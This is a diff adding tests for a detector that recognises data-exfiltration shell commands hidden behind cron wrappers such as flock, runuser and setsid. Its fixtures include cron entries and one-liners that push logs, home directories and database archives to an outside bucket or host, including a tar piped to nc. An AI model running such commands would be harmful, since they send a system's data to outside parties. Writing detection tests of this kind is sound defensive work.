@@ -353,3 +353,36 @@ describe("rclone, mc, gsutil, azcopy and aws s3api", () => {
     expect(sends(line)).toEqual([]);
   });
 });
+
+// Found by bench regress84: a cron line's command run through flock, chronic, runuser or setsid
+// passed, the wrapper taken for the command.
+describe("the wrappers a cron line runs its command through", () => {
+  it.each([
+    [
+      'echo "*/5 * * * * root flock -n /run/ship.lock aws s3 sync /var/log s3://offsite/" > /etc/cron.d/ship',
+      "aws s3 → s3 bucket offsite",
+    ],
+    ["flock -w 10 -x /run/ship.lock scp /srv/db.tgz h.example.de:/x/", "scp → host h.example.de"],
+    ["flock -n /run/ship.lock -c 'tar cz /data | nc 203.0.113.9 9000'", "nc → host 203.0.113.9"],
+    [
+      '(crontab -l; echo "0 2 * * * chronic rsync -a /data h.example.de:/x") | crontab -',
+      "rsync → host h.example.de",
+    ],
+    ["runuser -u app -- aws s3 cp /var/log/app.log s3://offsite/", "aws s3 → s3 bucket offsite"],
+    ["runuser -l app -c 'scp /srv/db.tgz h.example.de:/x/'", "scp → host h.example.de"],
+    ["setsid aws s3 sync /home s3://offsite/home/ &", "aws s3 → s3 bucket offsite"],
+    ["run-one cronic doas -u app scp /srv/db.tgz h.example.de:/x/", "scp → host h.example.de"],
+  ])("%s sends", (script, expected) => {
+    expect(sends(script)).toEqual([expected]);
+  });
+
+  it.each([
+    "flock -n /run/ship.lock scp h.example.de:/x/db.tgz /srv/",
+    "flock /run/ship.lock -c 'rsync -a h.example.de:/x /data'",
+    "runuser -u app -- aws s3 cp s3://offsite/db.tgz /srv/",
+    "setsid nc -l 9000",
+    "chronic true",
+  ])("twin: %s sends nothing", (script) => {
+    expect(sends(script)).toEqual([]);
+  });
+});
